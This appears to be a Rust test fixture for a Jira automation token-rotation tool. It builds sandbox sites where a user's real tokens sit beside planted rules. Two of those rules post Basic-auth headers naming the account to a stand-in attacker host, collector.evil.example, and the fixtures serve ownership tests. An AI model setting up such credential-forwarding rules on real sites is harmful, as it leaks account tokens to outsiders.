//! Sites where rule editors planted credentials that name the account (a junk token sent to
//! their own host, a token-shaped fake calling the site's REST API, junk in a "Create
//! variable") beside the account's real ones: for the ownership tests of `rotate` and
//! `apply`, and the questions about unconfirmed values at a terminal.

use crate::common::{fake_token, RunOutput, SiteSpec, TestSite, ADMIN, ALICE};
use autorekey::sandbox::{Account, SandboxConfig};
use autorekey::secret::Token;
use base64::Engine as _;
use serde_json::{json, Value};

pub(crate) fn basic(user: &str, token: &str) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{token}"));
    format!("Basic {b64}")
}

/// A rule with one "Send web request" carrying `auth` to `url`.
pub(crate) fn rule_with_web_request(
    uuid: &str,
    name: &str,
    url: &str,
    auth: &str,
    state: &str,
) -> Value {
    json!({"rule": {
        "uuid": uuid, "name": name, "state": state,
        "authorAccountId": format!("712020:author-of-{name}"),
        "trigger": {"id": "1", "component": "TRIGGER", "schemaVersion": 1,
            "type": "jira.issue.event.trigger:created", "value": {}, "children": [], "conditions": []},
        "components": [{"id": "2", "component": "ACTION", "schemaVersion": 1,
            "type": "jira.issue.outgoing.webhook",
            "value": {"url": url, "method": "POST",
                "headers": [{"id": "h1", "name": "Authorization", "value": auth, "headerSecure": false}],
                "sendIssue": false, "contentType": "empty"},
            "children": [], "conditions": []}]
    }, "connections": []})
}

/// A rule whose "Create variable" holds `email:token` in clear.
pub(crate) fn variable(uuid: &str, name: &str, pair: &str) -> Value {
    json!({"rule": {
        "uuid": uuid, "name": name, "state": "ENABLED",
        "trigger": {"id": "1", "component": "TRIGGER", "schemaVersion": 1,
            "type": "jira.issue.event.trigger:created", "value": {}, "children": [], "conditions": []},
        "components": [{"id": "2", "component": "ACTION", "schemaVersion": 1,
            "type": "jira.create.variable",
            "value": {"id": "v1", "name": {"type": "FREE", "value": "auth"},
                      "type": "SMART", "query": {"type": "SMART", "value": pair}},
            "children": [], "conditions": []}]
    }, "connections": []})
}

pub(crate) const REAL: &str = "0190f3a2-0000-7000-8000-00000000a001";
pub(crate) const REAL_TOO: &str = "0190f3a2-0000-7000-8000-00000000a002";
/// The real token as `echo "email:token" | base64` writes it (a line end inside the value),
/// which Atlassian accepts.
pub(crate) const REAL_ECHOED: &str = "0190f3a2-0000-7000-8000-00000000a003";
pub(crate) const PLANTED_JUNK: &str = "0190f3a2-0000-7000-8000-00000000b001";
pub(crate) const PLANTED_SITE: &str = "0190f3a2-0000-7000-8000-00000000b002";
pub(crate) const PLANTED_VAR: &str = "0190f3a2-0000-7000-8000-00000000b003";
pub(crate) const PLANTED_MORE: &str = "0190f3a2-0000-7000-8000-00000000b004";

/// The site: alice's real old token in three rules, and four planted rules naming alice.
pub(crate) struct Planted {
    pub site: TestSite,
    pub old: String,
    pub new: String,
    /// The planted values, token-shaped or not.
    pub fakes: Vec<String>,
}

pub(crate) fn planted_site() -> Planted {
    let (old, new) = (fake_token(), fake_token());
    let fakes = vec![fake_token(), fake_token(), fake_token()];
    let rules = vec![
        rule_with_web_request(
            REAL,
            "Real: comment",
            "{{baseUrl}}/rest/api/3/issue/{{issue.key}}/comment",
            &basic(ALICE, &old),
            "ENABLED",
        ),
        rule_with_web_request(
            REAL_TOO,
            "Real: transition",
            "https://acme.atlassian.net/rest/api/3/issue",
            &basic(ALICE, &old),
            "ENABLED",
        ),
        rule_with_web_request(
            REAL_ECHOED,
            "Real: pasted from a terminal",
            "{{baseUrl}}/rest/api/3/search",
            &format!("Basic {}", crate::common::echoed_basic(ALICE, &old)),
            "ENABLED",
        ),
        // Junk sent to the planter's own host, disabled so nobody notices.
        rule_with_web_request(
            PLANTED_JUNK,
            "Planted: to evil",
            "https://collector.evil.example/in",
            &basic(ALICE, "junk"),
            "DISABLED",
        ),
        // A token-shaped fake calling the site's REST API as alice.
        rule_with_web_request(
            PLANTED_SITE,
            "Planted: as alice",
            "{{baseUrl}}/rest/api/3/myself",
            &basic(ALICE, &fakes[0]),
            "ENABLED",
        ),
        variable(
            PLANTED_VAR,
            "Planted: variable",
            &format!("{ALICE}:{}", fakes[1]),
        ),
        rule_with_web_request(
            PLANTED_MORE,
            "Planted: one more",
            "https://collector.evil.example/2",
            &basic(ALICE, &fakes[2]),
            "ENABLED",
        ),
    ];
    Planted {
        site: site_with(rules, &old, &new, fakes.clone()),
        old,
        new,
        fakes,
    }
}

impl Planted {
    pub(crate) fn rotate(&self, extra: &[&str]) -> RunOutput {
        let new_file = self.site.write_file("new-token", &self.new);
        let backups = self.site.dir.path().join("backups");
        let mut cmd = self.site.cmd();
        cmd.args(["rotate", "--account", ALICE, "--new-token-file"])
            .arg(&new_file)
            .arg("--backup-dir")
            .arg(&backups)
            .args(extra);
        self.site.run_cmd(cmd)
    }

    pub fn rule(&self, uuid: &str) -> String {
        self.site.state().rule(uuid).expect("the rule").to_string()
    }

    pub(crate) fn failed_logins(&self) -> u64 {
        let stats = self.site.stats();
        let of = |m: &std::collections::BTreeMap<String, autorekey::sandbox::LoginAttempts>| {
            m.get(ALICE).map_or(0, |a| a.failed)
        };
        of(&stats.myself_attempts) + of(&stats.gateway_attempts)
    }
}

/// A site of `rules` with the admin and alice (`old` and `new` her valid tokens).
pub(crate) fn site_with(rules: Vec<Value>, old: &str, new: &str, planted: Vec<String>) -> TestSite {
    let admin = fake_token();
    let account = |email: &str, tokens: Vec<String>, admin: bool| Account {
        email: email.into(),
        account_id: format!("712020:{email}"),
        admin,
        tokens: tokens.into_iter().map(Token::new).collect(),
        revoked_tokens: vec![],
    };
    let mut secrets = vec![admin.clone(), old.to_string(), new.to_string()];
    secrets.extend(planted);
    SiteSpec {
        config: SandboxConfig {
            rules,
            accounts: vec![
                account(ADMIN, vec![admin.clone()], true),
                account(ALICE, vec![old.to_string(), new.to_string()], false),
            ],
            ..SandboxConfig::default()
        },
        login: ADMIN.into(),
        admin_token: admin,
        secrets,
    }
    .start()
}
